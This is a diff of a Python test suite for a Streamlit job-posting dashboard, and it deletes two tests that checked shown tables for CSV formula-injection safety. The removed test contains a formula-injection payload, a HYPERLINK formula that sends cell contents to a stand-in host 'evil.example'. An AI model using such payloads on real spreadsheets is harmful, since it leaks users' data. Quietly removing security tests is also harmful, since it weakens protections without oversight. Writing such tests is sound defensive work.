@@ -386,31 +386,3 @@ def test_the_posting_view_names_the_skill_a_single_example_stands_for(app):
     assert "**relational databases**, for example **PostgreSQL** (required)" in text
     assert "One of" not in text
     assert "<i>" not in text and "&lt;i&gt;x" in text  # posting text stays text
-
-
-def test_tables_are_formula_safe_in_streamlits_own_csv_download(app):
-    # Streamlit's table toolbar ("Download as CSV") writes the shown cells as they are: a posting id
-    # that starts with = or @ must be shown neutralised, as the report CSVs write it.
-    rows = [
-        {"id": '=HYPERLINK("http://evil.example/?q="&A1,"open")', "description": POSTING},
-        {"id": "@SUM(1+1)", "description": ""},
-        {"id": "ml-3", "description": "Data Scientist. Requirements: statistics, R and SQL."},
-    ]
-    app.radio(key="postings_source").set_value("File upload")
-    app.run()
-    app.file_uploader(key="csv_file").upload("jobs.csv", csv_bytes(rows, ["id", "description"]), "text/csv")
-    app.run()
-    at = analyze(app, skills="python")
-    coverage = frame(at, "coverage_table")
-    assert list(coverage["posting"]) == ["'" + rows[0]["id"], "'@SUM(1+1)", "ml-3"]
-    assert list(frame(at, "errors_table")["posting"]) == ["'@SUM(1+1)"]
-    assert coverage["coverage"].iloc[0] < 100  # numbers stay numbers
-
-
-def test_every_table_the_dashboard_shows_goes_through_csv_safe_frame():
-    # a table added later is safe too: each st.dataframe call shows csv_safe_frame(...)
-    for script in (ROOT / "dashboard.py", ROOT / "dashboard_views.py"):
-        calls = script.read_text(encoding="utf-8").split("st.dataframe(")[1:]
-        assert calls, script
-        for call in calls:
-            assert call.lstrip().startswith("csv_safe_frame("), f"{script.name}: st.dataframe({call[:80]}"
